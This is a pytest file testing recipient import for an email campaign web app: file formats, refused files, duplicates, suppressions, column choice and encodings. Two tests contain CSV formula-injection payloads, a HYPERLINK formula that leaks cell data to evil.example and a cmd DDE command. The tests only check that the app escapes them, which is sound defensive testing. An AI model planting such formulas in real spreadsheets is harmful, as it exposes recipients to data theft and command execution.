"""Importing recipients through the web pages: every kind of file, pastes, columns, and the summary."""

from __future__ import annotations

import re

import pytest
from werkzeug.test import TestResponse

from app.extensions import db
from app.models import Suppression, User
from tests.campaigns.conftest import RECIPIENT_FIXTURES, RecipientsFlow

#: Files that import: (file, the saved addresses, merge field keys).
READABLE = {
    "duplicates_and_invalid.csv": (["Anna@example.com", "dave@example.com"], []),
    "formula_cells.csv": (["ok@example.com"], ["phone", "note"]),
    "normal.xlsx": (
        ["anna@example.com", "BOB@example.com"],
        ["customer_no", "phone", "orders", "joined", "total"],
    ),
    "quoted_fields.csv": (["anna@example.com", "bob@example.com"], ["address"]),
    "semicolon.csv": (["anna@example.com", "bob@example.com"], ["amount"]),
    "tab_delimited.txt": (["anna@example.com"], ["note"]),
    "utf16_unicode_text.txt": (["zoe@example.com"], []),
    "utf8.csv": (["anna@example.com", "zoe@example.com", "jorg@example.com"], ["city"]),
    "utf8_bom.csv": (["anna@example.com"], []),
    "windows1252.csv": (
        ["zoe@example.com", "muller@example.com", "angstrom@example.com"],
        ["company"],
    ),
}
#: Files refused as a whole: (file, the start of the message the user reads).
REFUSED = {
    "empty.csv": "The file is empty.",
    "header_only.csv": "The file has a header row but no recipients below it.",
    "binary_junk.csv": "binary_junk.csv is not a CSV or Excel (.xlsx) file we can read.",
    "legacy.xls": "legacy.xls is an old Excel 97–2003 workbook (.xls)",
    "password_protected.xlsx": "password_protected.xlsx is protected with a password",
    "zip_archive.xlsx": "zip_archive.xlsx could not be read as an Excel workbook (.xlsx).",
    "ragged.csv": "Row 3 of ragged.csv has 3 values, but the first row has 2.",
    "no_email_column.csv": "No column is headed &#39;email&#39;.",
    "first_row_is_data.csv": "The first row looks like a recipient, not a header.",
}


def text(response: TestResponse) -> str:
    return response.get_data(as_text=True)


def count(response: TestResponse, kind: str) -> int:
    match = re.search(rf'id="{kind}-count">([\d,]+)<', text(response))
    assert match, f"the summary shows no {kind} count"
    return int(match.group(1).replace(",", ""))


def test_every_fixture_file_is_covered():
    files = {path.name for path in RECIPIENT_FIXTURES.iterdir() if path.suffix != ".py"}
    assert files == set(READABLE) | set(REFUSED)


@pytest.mark.parametrize("name", sorted(READABLE))
def test_file_is_summarised_then_saved(recipients_flow: RecipientsFlow, name: str):
    addresses, keys = READABLE[name]
    review = recipients_flow.upload_fixture(name)
    assert review.status_code == 200
    assert count(review, "accepted") == len(addresses)
    assert recipients_flow.saved() == [], "nothing is saved before the user confirms"

    saved = recipients_flow.save(review)

    assert f"Saved {len(addresses)} recipient" in text(saved)
    assert [row[0] for row in recipients_flow.saved()] == addresses
    assert [field["key"] for field in recipients_flow.merge_fields()] == keys


@pytest.mark.parametrize("name", sorted(REFUSED))
def test_unusable_file_gets_a_clear_message_and_nothing_is_saved(recipients_flow: RecipientsFlow, name: str):
    refused = recipients_flow.upload_fixture(name)
    assert refused.status_code == 422
    assert REFUSED[name] in text(refused)
    assert "Nothing was saved." in text(refused)
    assert "/recipients/save/" not in text(refused)
    assert recipients_flow.saved() == []


def test_xlsx_values_and_names_are_saved_as_typed(recipients_flow: RecipientsFlow):
    recipients_flow.save(recipients_flow.upload_fixture("normal.xlsx"))
    assert recipients_flow.saved()[0] == (
        "anna@example.com",
        "Anna Ångström",
        {
            "customer_no": "007",
            "phone": "+44 20 7946 0000",
            "orders": "3",
            "joined": "2024-05-01",
            "total": "",
        },
    )
    assert recipients_flow.merge_fields()[0] == {"key": "customer_no", "header": "Customer No"}


def test_summary_counts_invalid_and_duplicate_rows(recipients_flow: RecipientsFlow):
    review = recipients_flow.upload_fixture("duplicates_and_invalid.csv")
    page = text(review)
    assert (count(review, "invalid"), count(review, "duplicate"), count(review, "suppressed")) == (3, 2, 0)
    assert "bob@@example.com" in page
    assert "The part after the @-sign is not valid. It should have a period." in page
    assert "ANNA@example.com" in page


def test_suppressed_address_is_skipped_and_counted(recipients_flow: RecipientsFlow, logged_in: User):
    db.session.add(Suppression(user_id=logged_in.id, address="dave@example.com", reason="unsubscribed"))
    db.session.commit()
    review = recipients_flow.upload_fixture("duplicates_and_invalid.csv")
    assert (count(review, "accepted"), count(review, "suppressed")) == (1, 1)
    recipients_flow.save(review)
    assert [row[0] for row in recipients_flow.saved()] == ["Anna@example.com"]


def test_another_users_suppression_does_not_apply(recipients_flow: RecipientsFlow, make_user):
    other = make_user()
    db.session.add(Suppression(user_id=other.id, address="dave@example.com"))
    db.session.commit()
    assert count(recipients_flow.upload_fixture("duplicates_and_invalid.csv"), "suppressed") == 0


def test_pasted_addresses_are_summarised_then_saved(recipients_flow: RecipientsFlow):
    review = recipients_flow.paste(
        'Anna <anna@example.com>, "Smith, Bob" <bob@example.com>\nnot an address\nANNA@example.com'
    )
    assert (count(review, "accepted"), count(review, "invalid"), count(review, "duplicate")) == (2, 1, 1)
    recipients_flow.save(review)
    assert recipients_flow.saved() == [
        ("anna@example.com", "Anna", {}),
        ("bob@example.com", "Smith, Bob", {}),
    ]


def test_list_with_no_valid_address_cannot_be_saved(recipients_flow: RecipientsFlow):
    review = recipients_flow.paste("not an address; nor@this")
    assert count(review, "accepted") == 0
    assert "There is not one valid recipient in this list" in text(review)
    assert "/recipients/save/" not in text(review)


def test_saving_a_list_with_no_valid_address_is_refused(recipients_flow: RecipientsFlow, logged_in: User):
    """Even when the Save button is pressed anyway (its summary was shown before a suppression)."""
    review = recipients_flow.paste("anna@example.com")
    db.session.add(Suppression(user_id=logged_in.id, address="anna@example.com"))
    db.session.commit()
    refused = recipients_flow.save(review)
    assert "There is not one valid recipient in this list, so nothing was saved." in text(refused)
    assert recipients_flow.saved() == []


def test_email_column_is_chosen_when_none_is_found(recipients_flow: RecipientsFlow, client):
    refused = recipients_flow.upload_fixture("first_row_is_data.csv")
    page = text(refused)
    assert "Choose which column holds the addresses" in page
    assert '<option value="anna@example.com">anna@example.com</option>' in page
    chooser = re.search(r'<form method="get" action="([^"]+)"', page).group(1)

    review = client.get(chooser, query_string={"email": "anna@example.com", "name": "Anna"})

    assert count(review, "accepted") == 1
    recipients_flow.save(review)
    assert recipients_flow.saved() == [("bob@example.com", "Bob", {})]


def test_user_can_choose_other_columns_than_the_detected_ones(recipients_flow: RecipientsFlow, client):
    review = recipients_flow.upload_fixture("utf8_bom.csv")
    chooser = re.search(r'<form method="get" action="([^"]+)"', text(review)).group(1)

    chosen = client.get(chooser, query_string={"email": "Email Address", "name": ""})

    assert "<code>{{ name_2 }}</code> from column “Name”" in text(chosen)
    recipients_flow.save(chosen)
    assert recipients_flow.saved() == [("anna@example.com", "", {"name_2": "Anna Ångström"})]


def test_choosing_a_missing_column_is_explained(recipients_flow: RecipientsFlow, client):
    review = recipients_flow.upload_fixture("utf8.csv")
    chooser = re.search(r'<form method="get" action="([^"]+)"', text(review)).group(1)
    refused = client.get(chooser, query_string={"email": "mail"})
    assert "There is no column headed &#39;mail&#39;." in text(refused)


def test_invalid_rows_download_escapes_formula_cells(recipients_flow: RecipientsFlow, client):
    review = recipients_flow.upload_fixture("formula_cells.csv")
    link = re.search(r'href="([^"]+/invalid\.csv[^"]*)"', text(review)).group(1)

    download = client.get(link.replace("&amp;", "&"))

    assert download.mimetype == "text/csv"
    assert "attachment" in download.headers["Content-Disposition"]
    body = download.data
    assert body.startswith(b"\xef\xbb\xbf"), "Excel needs the BOM to read UTF-8"
    lines = body.decode("utf-8-sig").splitlines()
    assert lines[0] == "Row,Value,Reason"
    assert lines[1].startswith("2,\"'=HYPERLINK(")
    assert [line.split(",")[1] for line in lines[2:]] == [
        "'+x@example.com",
        "'@example.com",
        "'-x@example.com",
    ]


def test_formula_cells_are_shown_as_text_in_the_summary(recipients_flow: RecipientsFlow):
    page = text(recipients_flow.upload_fixture("formula_cells.csv"))
    assert "=HYPERLINK(&#34;http://evil.example/?&#34;&amp;A1)" in page
    assert "<td>=cmd|&#39; /C calc&#39;!A0</td>" in page


def test_international_addresses_are_accepted_with_a_notice_that_they_need_smtputf8(
    recipients_flow: RecipientsFlow,
):
    review = recipients_flow.upload(
        "email,name\njosé@exämple.com,José\nanna@example.com,Anna\njorg@bücher.example,Jörg\n".encode(),
        "international.csv",
    )
    assert count(review, "accepted") == 3
    notice = (
        "1 address needs an SMTP server with SMTPUTF8 (international addresses): it has non-ASCII "
        "characters before the @."
    )
    assert notice in text(review), "jorg@bücher.example needs nothing: its domain goes out as IDNA"
    saved = recipients_flow.save(review)
    assert notice in text(saved)
    assert [row[0] for row in recipients_flow.saved()] == [
        "josé@exämple.com",
        "anna@example.com",
        "jorg@bücher.example",
    ]


def test_a_utf8_file_with_one_stray_windows_byte_is_reviewed_with_its_accents(
    recipients_flow: RecipientsFlow,
):
    data = (
        "\ufeffemail,name\r\nzoe@example.com,Zoë Ångström-Çelik\r\n".encode()
        + b"andre@example.com,Andr\xe9\r\n"
    )
    review = recipients_flow.upload(data, "mixed.csv")
    page = text(review)
    assert "Addresses from column <strong>email</strong>" in page
    assert "Zoë Ångström-Çelik" in page
    assert "Ã" not in page
    assert re.search(
        r"<td>3</td><td><code>andre@example.com</code></td><td>This row holds characters that could not be read",
        page,
    )
    recipients_flow.save(review)
    assert recipients_flow.saved() == [("zoe@example.com", "Zoë Ångström-Çelik", {})]
